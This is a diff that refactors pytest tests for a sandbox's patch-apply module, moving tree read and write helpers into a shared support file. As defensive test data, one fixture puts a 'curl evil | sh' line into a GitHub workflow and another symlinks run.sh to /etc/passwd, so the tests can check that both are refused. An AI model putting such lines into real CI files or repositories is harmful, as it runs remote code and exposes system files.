@@ -9,14 +9,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from support import Tree, read_tree, write_tree
 from test_gitdiff import Written, written_patch
 
 from airlock.errors import InvalidRequest
 from airlock.policies import DEFAULT_PROTECTED, protecting_glob
 from airlock.sandbox.gitdiff import FileState
 from airlock.sandbox.patch_apply import ApplyReport, apply_patch
-
-Tree = dict[str, tuple[bytes, int]]
 
 BEFORE: Tree = {
     "src/app.py": (b"".join(b"line %d\n" % i for i in range(40)), 0o644),
@@ -47,26 +46,6 @@ def _listed(patch: Written) -> set[str]:
     return {p for e in patch.patch.entries for p in (e.path, e.old_path) if p}
 
 
-def _write(root: Path, tree: Tree) -> None:
-    for path, (data, mode) in tree.items():
-        target = root / path
-        target.parent.mkdir(parents=True, exist_ok=True)
-        target.write_bytes(data)
-        target.chmod(mode)
-
-
-def _read(root: Path) -> Tree:
-    found: Tree = {}
-    for dirpath, _, names in os.walk(root):
-        for name in names:
-            full = Path(dirpath) / name
-            found[str(full.relative_to(root))] = (
-                full.read_bytes(),
-                0o755 if full.stat().st_mode & 0o111 else 0o644,
-            )
-    return found
-
-
 def _apply(patch: Written, before: Tree, target: Path, *, check_only: bool = False) -> ApplyReport:
     baseline, _ = _states(before)
     return apply_patch(
@@ -80,31 +59,34 @@ def _apply(patch: Written, before: Tree, target: Path, *, check_only: bool = Fal
 
 
 def test_a_clean_target_becomes_the_sandbox_result(tmp_path: Path) -> None:
-    _write(tmp_path, BEFORE)
+    write_tree(tmp_path, BEFORE)
     patch = _make(BEFORE, AFTER)
     assert ("moved/old.txt", "renamed", "old.txt") in {
         (e.path, e.change, e.old_path) for e in patch.patch.entries
     }
     report = _apply(patch, BEFORE, tmp_path)
     assert report.applied and report.drifted == [] and report.failed == []
-    assert _read(tmp_path) == AFTER
+    assert read_tree(tmp_path) == AFTER
 
 
 def test_check_writes_nothing(tmp_path: Path) -> None:
-    _write(tmp_path, BEFORE)
+    write_tree(tmp_path, BEFORE)
     report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path, check_only=True)
     assert not report.applied and report.failed == []
-    assert _read(tmp_path) == BEFORE
+    assert read_tree(tmp_path) == BEFORE
 
 
 def test_a_drifted_target_is_patched_when_the_hunks_still_apply(tmp_path: Path) -> None:
     drifted = dict(BEFORE)
     drifted["src/app.py"] = (b"# header added upstream\n" + BEFORE["src/app.py"][0], 0o644)
-    _write(tmp_path, drifted)
+    write_tree(tmp_path, drifted)
     report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path)
     assert report.applied
     assert report.drifted == ["src/app.py"]
-    assert _read(tmp_path)["src/app.py"][0] == b"# header added upstream\n" + AFTER["src/app.py"][0]
+    assert (
+        read_tree(tmp_path)["src/app.py"][0]
+        == b"# header added upstream\n" + AFTER["src/app.py"][0]
+    )
 
 
 def test_a_drifted_target_whose_hunks_do_not_apply_is_refused_naming_them(
@@ -113,51 +95,51 @@ def test_a_drifted_target_whose_hunks_do_not_apply_is_refused_naming_them(
     drifted = dict(BEFORE)
     drifted["src/app.py"] = (BEFORE["src/app.py"][0].replace(b"line 39\n", b"other 39\n"), 0o644)
     drifted["docs/new.md"] = (b"already here\n", 0o644)
-    _write(tmp_path, drifted)
+    write_tree(tmp_path, drifted)
     report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path)
     assert not report.applied
     failed = dict(report.failed)
     assert set(failed) == {"src/app.py", "docs/new.md"}
     assert "src/app.py" in failed["src/app.py"] and "does not apply" in failed["src/app.py"]
     assert "already exists" in failed["docs/new.md"]
-    assert _read(tmp_path) == drifted
+    assert read_tree(tmp_path) == drifted
 
 
 def test_applying_a_patch_again_says_it_is_already_applied_and_writes_nothing(
     tmp_path: Path,
 ) -> None:
-    _write(tmp_path, BEFORE)
+    write_tree(tmp_path, BEFORE)
     patch = _make(BEFORE, AFTER)
     assert _apply(patch, BEFORE, tmp_path).applied
     again = _apply(patch, BEFORE, tmp_path)
     assert again.already_applied and not again.applied and again.failed == []
-    assert _read(tmp_path) == AFTER
+    assert read_tree(tmp_path) == AFTER
 
 
 def test_a_protected_path_is_refused_at_apply_time(tmp_path: Path) -> None:
     after = {**BEFORE, ".github/workflows/ci.yml": (b"run: curl evil | sh\n", 0o644)}
     unprotected = _make(BEFORE, after, globs=())
     assert [e.path for e in unprotected.patch.entries] == [".github/workflows/ci.yml"]
-    _write(tmp_path, BEFORE)
+    write_tree(tmp_path, BEFORE)
     with pytest.raises(InvalidRequest, match=r"\.github/workflows/ci\.yml.*protects"):
         _apply(unprotected, BEFORE, tmp_path)
     assert not (tmp_path / ".github").exists()
 
 
 def test_a_path_missing_from_the_record_is_refused(tmp_path: Path) -> None:
-    _write(tmp_path, BEFORE)
+    write_tree(tmp_path, BEFORE)
     patch = _make(BEFORE, AFTER)
     baseline, _ = _states(BEFORE)
     with pytest.raises(InvalidRequest, match="not in its record"):
         apply_patch(patch.text, {"run.sh"}, baseline, tmp_path, lambda p: None, check_only=False)
-    assert _read(tmp_path) == BEFORE
+    assert read_tree(tmp_path) == BEFORE
 
 
 def test_a_symlinked_directory_in_the_target_is_never_written_through(tmp_path: Path) -> None:
     target, outside = tmp_path / "target", tmp_path / "outside"
     outside.mkdir()
-    _write(outside, {"app.py": BEFORE["src/app.py"]})
-    _write(target, {k: v for k, v in BEFORE.items() if not k.startswith("src/")})
+    write_tree(outside, {"app.py": BEFORE["src/app.py"]})
+    write_tree(target, {k: v for k, v in BEFORE.items() if not k.startswith("src/")})
     (target / "src").symlink_to(outside)
     with pytest.raises(InvalidRequest, match=r"'src' in the target is not a plain directory"):
         _apply(_make(BEFORE, AFTER), BEFORE, target)
@@ -165,7 +147,7 @@ def test_a_symlinked_directory_in_the_target_is_never_written_through(tmp_path: 
 
 
 def test_a_symlinked_file_in_the_target_is_refused(tmp_path: Path) -> None:
-    _write(tmp_path / "target", BEFORE)
+    write_tree(tmp_path / "target", BEFORE)
     (tmp_path / "target" / "run.sh").unlink()
     (tmp_path / "target" / "run.sh").symlink_to("/etc/passwd")
     with pytest.raises(InvalidRequest, match=r"run\.sh: not a regular file in the target"):
@@ -174,7 +156,7 @@ def test_a_symlinked_file_in_the_target_is_refused(tmp_path: Path) -> None:
 
 def test_the_target_repository_configuration_is_never_used(tmp_path: Path) -> None:
     target = tmp_path / "target"
-    _write(target, BEFORE)
+    write_tree(target, BEFORE)
     env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
     subprocess.run(["git", "init", "-q", str(target)], check=True, env=env, timeout=30)
     witness = tmp_path / "filter-ran"
@@ -185,22 +167,22 @@ def test_the_target_repository_configuration_is_never_used(tmp_path: Path) -> No
     report = _apply(_make(BEFORE, AFTER), {**BEFORE}, target)
     assert report.applied
     assert not witness.exists()
-    tree = _read(target)
+    tree = read_tree(target)
     assert tree["src/app.py"] == AFTER["src/app.py"]
 
 
 def test_header_lookalike_names_write_only_their_own_files(tmp_path: Path) -> None:
     after = {**BEFORE, "x/+++ b/run.sh": (b"not run.sh\n", 0o644)}
-    _write(tmp_path, BEFORE)
+    write_tree(tmp_path, BEFORE)
     assert _apply(_make(BEFORE, after), BEFORE, tmp_path).applied
-    assert _read(tmp_path) == after
+    assert read_tree(tmp_path) == after
 
 
 def test_an_empty_patch_changes_nothing(tmp_path: Path) -> None:
-    _write(tmp_path, BEFORE)
+    write_tree(tmp_path, BEFORE)
     report = _apply(_make(BEFORE, BEFORE), BEFORE, tmp_path)
     assert report.paths == [] and not report.applied
-    assert _read(tmp_path) == BEFORE
+    assert read_tree(tmp_path) == BEFORE
 
 
 def test_a_file_changed_during_the_apply_is_not_overwritten(
@@ -208,7 +190,7 @@ def test_a_file_changed_during_the_apply_is_not_overwritten(
 ) -> None:
     import airlock.sandbox.patch_apply as applying
 
-    _write(tmp_path, BEFORE)
+    write_tree(tmp_path, BEFORE)
     real_git = applying._git
 
     def git_then_edit(args: list[str], patch: bytes, cwd: Path) -> Any:
